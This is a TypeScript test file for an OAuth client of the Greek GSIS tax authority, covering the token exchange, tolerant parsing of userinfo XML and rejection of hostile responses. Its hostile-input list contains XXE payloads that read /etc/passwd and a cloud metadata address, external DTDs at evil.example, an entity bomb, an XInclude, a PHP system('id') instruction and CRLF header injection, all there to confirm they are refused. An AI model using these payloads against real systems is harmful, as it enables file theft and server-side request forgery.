import type { IncomingMessage, ServerResponse } from 'node:http';
import { OutsideError } from '../http/outside-error.ts';
import { fetchOn, startForeignServer, type ForeignServer } from '../testing/foreign-server.ts';
import { createGsis } from './gsis.ts';

const TAXID = '090000045';
const PLAIN = `<root><userinfo userid="U1" taxid="${TAXID}" lastname="ΠΑΠΑ" firstname="ΑΝΝΑ"/></root>`;
const ANNA = { taxid: TAXID, first_name: 'ΑΝΝΑ', last_name: 'ΠΑΠΑ' };
const BACK = { code: 'c0de', redirect_uri: 'https://my.example.gr/gsis/callback' };

type Say = (response: ServerResponse, request: IncomingMessage) => void;
let server: ForeignServer;
let token: Say;
let userinfo: Say;
let posted: string;
beforeAll(async () => {
  server = await startForeignServer((request, response) => {
    if (request.url?.startsWith('/oauth2server/oauth/token')) {
      request.on('data', (part: Buffer) => (posted += part.toString()));
      request.on('end', () => token(response, request));
    } else userinfo(response, request);
  });
});
afterAll(() => server.stop());

const json =
  (value: unknown, status = 200): Say =>
  (response) =>
    response.writeHead(status).end(JSON.stringify(value));
const xml =
  (text: string | Uint8Array, status = 200): Say =>
  (response) =>
    response.writeHead(status, { 'content-type': 'text/xml' }).end(text);

beforeEach(() => {
  posted = '';
  server.asked.length = 0;
  token = json({ access_token: 't0ken', token_type: 'bearer' });
  userinfo = xml(PLAIN);
});

const authority = (network = {}) =>
  createGsis({
    provider: 'gsis',
    url: 'https://www1.outside.example/oauth2server/',
    client_id: 'hydria',
    client_secret: 's3cret',
    fetch: fetchOn(server, network),
  });

const outcome = (call: Promise<unknown>) =>
  call.catch((error: unknown) => (error instanceof OutsideError ? error.problem : String(error)));

it('sends the browser to the authority with everything but the secret', () => {
  const url = new URL(authority().begin({ state: 'abc', redirect_uri: BACK.redirect_uri }));
  expect(url.origin + url.pathname).toBe('https://www1.outside.example/oauth2server/oauth/authorize');
  expect(Object.fromEntries(url.searchParams)).toEqual({
    response_type: 'code',
    client_id: 'hydria',
    redirect_uri: BACK.redirect_uri,
    scope: 'read',
    state: 'abc',
  });
});

it('exchanges the code for a token and the token for a citizen', async () => {
  let bearer: string | undefined;
  userinfo = (response, { headers }) => {
    bearer = headers.authorization;
    xml(PLAIN)(response, {} as IncomingMessage);
  };
  expect(await authority().finish(BACK)).toEqual(ANNA);
  expect(bearer).toBe('Bearer t0ken');
  expect(Object.fromEntries(new URLSearchParams(posted))).toEqual({
    grant_type: 'authorization_code',
    ...BACK,
    client_id: 'hydria',
    client_secret: 's3cret',
  });
  expect(server.asked).toEqual(['POST /oauth2server/oauth/token', 'GET /oauth2server/userinfo?format=xml']);
});

/** ΑΝΝΑ ΠΑΠΑ in ISO 8859-7 and Windows-1253, whose capitals are the same. */
const greekBytes = (text: string) =>
  Buffer.from([...text].map((letter) => { const code = letter.codePointAt(0) ?? 0; return code < 128 ? code : code - 0x2d0; })); // prettier-ignore

const DIRT: [string, string | Uint8Array][] = [
  ['spaces that fill the fields up', `<root><userinfo taxid="${TAXID}   " lastname="ΠΑΠΑ      " firstname=" ΑΝΝΑ "/></root>`],
  ['a declaration', `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n${PLAIN}`],
  ['a byte order mark', `\uFEFF<?xml version="1.0"?>${PLAIN}`],
  ['namespaces', `<ns2:root xmlns:ns2="http://gsis.ggps.interoperability/x"><ns2:userinfo ns2:taxid="${TAXID}" ns2:lastname="ΠΑΠΑ" firstname="ΑΝΝΑ"></ns2:userinfo></ns2:root>`],
  ['elements for attributes', `<root><userinfo><taxid>${TAXID} </taxid><lastname>ΠΑΠΑ</lastname><firstname>\n ΑΝΝΑ\n</firstname></userinfo></root>`],
  ['both, saying the same', `<root><userinfo taxid="${TAXID}"><taxid> ${TAXID}</taxid><lastname>ΠΑΠΑ</lastname><firstname>ΑΝΝΑ</firstname></userinfo></root>`],
  ['CDATA', `<root><userinfo taxid="${TAXID}"><lastname><![CDATA[ΠΑΠΑ]]></lastname><firstname>ΑΝΝΑ</firstname></userinfo></root>`],
  ['capital names', `<ROOT><USERINFO TAXID="${TAXID}" LASTNAME="ΠΑΠΑ" FIRSTNAME="ΑΝΝΑ"/></ROOT>`],
  ['userinfo as the root', `<userinfo taxid='${TAXID}' lastname='ΠΑΠΑ' firstname='ΑΝΝΑ'/>`],
  ['comments and further fields', `<root><!-- v2 --><status code="0"/><userinfo taxid="${TAXID}" birthyear="1950" lastname="ΠΑΠΑ" firstname="ΑΝΝΑ"/></root>`],
  ['numbers for letters', `<root><userinfo taxid="${TAXID}" lastname="&#928;&#x391;&#928;&#913;" firstname="ΑΝΝΑ"/></root>`],
  ['eleven digits', PLAIN.replace(TAXID, `00${TAXID}`)],
  ['blanks in the number', PLAIN.replace(TAXID, ` ${TAXID.slice(0, 3)} ${TAXID.slice(3)} `)],
  ['the old code page', greekBytes(PLAIN)],
  ['the old code page, called latin1', greekBytes(`<?xml version="1.0" encoding="ISO-8859-1"?>${PLAIN}`)],
]; // prettier-ignore

it.each(DIRT)('reads a userinfo with %s', async (_, body) => {
  userinfo = xml(body);
  expect(await authority().finish(BACK)).toEqual(ANNA);
});

it('takes a citizen without names', async () => {
  userinfo = xml(`<root><userinfo taxid="${TAXID}" lastname="   "/></root>`);
  expect(await authority().finish(BACK)).toEqual({ taxid: TAXID, first_name: '', last_name: '' });
});

it.each(['null', 'NULL', ' Null  '])(
  'reads the first name %p of a company as none, and keeps its name',
  async (word) => {
    const names = `lastname="ΑΛΦΑ Α.Ε." firstname="${word}" fathername="${word}"`;
    userinfo = xml(`<root><userinfo taxid="${TAXID}" ${names}/></root>`);
    expect(await authority().finish(BACK)).toEqual({ taxid: TAXID, first_name: '', last_name: 'ΑΛΦΑ Α.Ε.' });
  },
);

const ENTITIES = `<!DOCTYPE r [<!ENTITY a "${'x'.repeat(1000)}"><!ENTITY b "${'&a;'.repeat(100)}">]>`;
const HOSTILE: [string, string | Uint8Array][] = [
  ['an external entity', `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><root><userinfo taxid="${TAXID}" lastname="&x;"/></root>`],
  ['an external entity over http', `<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/">]><root><userinfo taxid="${TAXID}"><lastname>&x;</lastname></userinfo></root>`],
  ['a parameter entity', `<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]>${PLAIN}`],
  ['an external DTD', `<!DOCTYPE root SYSTEM "http://evil.example/x.dtd">${PLAIN}`],
  ['a DOCTYPE in small letters', `<!doctype root>${PLAIN}`],
  ['a DOCTYPE behind the declaration', `<?xml version="1.0"?>\n<!DOCTYPE root>${PLAIN}`],
  ['an entity bomb', `${ENTITIES}<root><userinfo taxid="${TAXID}" lastname="&b;"/></root>`],
  ['an entity that nobody declared', `<root><userinfo taxid="${TAXID}" lastname="&lol9;"/></root>`],
  ['an XInclude of a file as the number', '<root xmlns:xi="http://www.w3.org/2001/XInclude"><userinfo><taxid><xi:include href="file:///etc/passwd"/></taxid></userinfo></root>'],
  ['a processing instruction', `<?php system('id') ?>${PLAIN}`],
  ['a stylesheet', `<?xml version="1.0"?><?xml-stylesheet href="http://evil.example"?>${PLAIN}`],
  ['two citizens', `<root><userinfo taxid="${TAXID}"/><userinfo taxid="094014201"/></root>`],
  ['two numbers', `<root><userinfo taxid="${TAXID}"><taxid>094014201</taxid></userinfo></root>`],
  ['the number twice', `<root><userinfo taxid="094014201" taxid="${TAXID}"/></root>`],
  ['the number twice by prefix', `<root xmlns:a="u"><userinfo a:taxid="094014201" taxid="${TAXID}"/></root>`],
  ['a citizen in a comment', `<root><!-- <userinfo taxid="${TAXID}"/> --></root>`],
  ['a citizen in CDATA', `<root><![CDATA[<userinfo taxid="${TAXID}"/>]]></root>`],
  ['no number', '<root><userinfo lastname="ΠΑΠΑ"/></root>'],
  ['a number of spaces', '<root><userinfo taxid="         "/></root>'],
  ['a wrong check digit', '<root><userinfo taxid="090000046"/></root>'],
  ['eleven digits that begin with others', `<root><userinfo taxid="10${TAXID}"/></root>`],
  ['only zeros', '<root><userinfo taxid="000000000"/></root>'],
  ['a number with something behind it', `<root><userinfo taxid="${TAXID} or 1=1"/></root>`],
  ['Arabic digits', '<root><userinfo taxid="٠٩٠٠٠٠٠٤٥"/></root>'],
  ['a null byte', `<root><userinfo taxid="${TAXID}&#0;"/></root>`],
  ['UTF-16', Buffer.from(`\uFEFF${PLAIN}`, 'utf16le')],
  ['UTF-7', `<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE root+AD4-${PLAIN}`],
  ['elements that do not close', `<root><userinfo taxid="${TAXID}"></root>`],
  ['something behind the document', `${PLAIN}<root/>`],
  ['a depth without end', `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`],
  ['a document without end', `<root>${' '.repeat(70_000)}<userinfo taxid="${TAXID}"/></root>`],
  ['JSON', JSON.stringify({ taxid: TAXID })],
  ['HTML', `<!doctype html><html><userinfo taxid="${TAXID}"></html>`],
  ['nothing', ''],
]; // prettier-ignore

it.each(HOSTILE)('accepts no person from a userinfo with %s', async (_, body) => {
  userinfo = xml(body);
  expect(await outcome(authority().finish(BACK))).toBe('unreadable');
});

it('accepts no person when the authority refuses, fails, redirects or is slow', async () => {
  const hasty = authority({ limits: { connectMs: 500, totalMs: 300, bytes: 1024 * 1024 } });
  const failures: [string, () => void][] = [
    ['status', () => (token = json({ error: 'invalid_grant' }, 400))],
    ['status', () => (token = json({}, 500))],
    ['unreadable', () => (token = json({}))],
    ['unreadable', () => (token = json({ access_token: '' }))],
    ['unreadable', () => (token = json({ access_token: 'a\r\nx-evil: 1' }))],
    ['redirected', () => (token = (response) => response.writeHead(302, { location: 'https://evil.example/' }).end())],
    ['too_slow', () => (token = () => {})],
  ];
  for (const [problem, fail] of failures) {
    fail();
    expect(await outcome(hasty.finish(BACK))).toBe(problem);
  }
  expect(server.asked.filter((line) => line.includes('userinfo'))).toEqual([]);
  token = json({ access_token: 't' });
  userinfo = xml(PLAIN, 401);
  expect(await outcome(hasty.finish(BACK))).toBe('status');
  userinfo = () => {};
  expect(await outcome(hasty.finish(BACK))).toBe('too_slow');
});

it('sends no request for a code that no authority could have made', async () => {
  for (const code of ['', 'x'.repeat(5000), 'a b', 'α', 'a\r\nb'])
    expect(await outcome(authority().finish({ ...BACK, code }))).toBe('unreadable');
  expect(server.asked).toEqual([]);
});
